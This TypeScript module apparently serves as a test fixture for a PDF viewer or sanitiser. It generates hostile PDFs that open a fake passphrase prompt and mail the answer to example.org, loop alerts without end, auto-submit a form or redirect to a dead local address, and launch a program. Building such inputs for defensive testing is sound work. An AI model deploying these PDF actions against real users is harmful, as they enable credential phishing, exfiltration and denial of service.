/** A PDF that does something by itself, or at a click, if its viewer lets it. */
export interface HostilePdf {
  readonly name: string;
  readonly content: Buffer;
}

/** Address that a hostile PDF sends what it learned to; nothing listens there. */
const ELSEWHERE = 'http://127.0.0.1:9/taken';
const ASK = `app.response("Your session has ended. Type your passphrase", "Medseal", "", true)`;

/** Entries of the catalogue, and further objects from number 5 on, of each. */
const TRICKS: Readonly<Record<string, readonly [catalogue: string, ...objects: string[]]>> = {
  'asks-for-the-passphrase': [
    `/OpenAction << /S /JavaScript /JS (${escaped(`var typed = ${ASK}; app.mailMsg(false, "x@example.org", "", "", typed);`)}) >>`,
  ],
  'alerts-without-end': [
    `/OpenAction << /S /JavaScript /JS (${escaped('while (true) app.alert("wait");')}) >>`,
  ],
  'alerts-by-name': [
    '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>',
    `<< /S /JavaScript /JS (${escaped('app.setInterval("app.alert(1)", 1);')}) >>`,
  ],
  'leaves-for-another-site': [`/OpenAction << /S /URI /URI (${ELSEWHERE}) >>`],
  'posts-a-form': [
    `/AcroForm << /Fields [5 0 R] >> /OpenAction << /S /SubmitForm /F << /FS /URL /F (${ELSEWHERE}) >> /Flags 4 >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (passphrase) /Rect [0 0 595 842] /V (typed) /P 3 0 R /AA << /K << /S /JavaScript /JS (${escaped('app.alert(event.change)')}) >> >> >>`,
  ],
  'is-a-link-everywhere': [
    '',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${ELSEWHERE}) >> >>`,
  ],
  'starts-a-program': ['/OpenAction << /S /Launch /F (calculator) /NewWindow true >>'],
};

/** PDFs that run programs, ask for secrets, send what is typed, or leave for another site. */
export const HOSTILE_PDFS: readonly HostilePdf[] = Object.entries(TRICKS).map(
  ([name, [catalogue, ...further]]) => ({
    name: `${name}.pdf`,
    content: pdfOf([
      `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [${further.length > 0 ? '5 0 R' : ''}] >>`,
      '<< /Length 0 >>\nstream\n\nendstream',
      ...further,
    ]),
  }),
);

/** Without a table of places, which every viewer makes again. */
function pdfOf(objects: readonly string[]): Buffer {
  const numbered = objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`);
  return Buffer.from(`%PDF-1.7\n${numbered.join('')}trailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1');
}

function escaped(script: string): string {
  return script.replaceAll(/[\\()]/g, String.raw`\$&`);
}
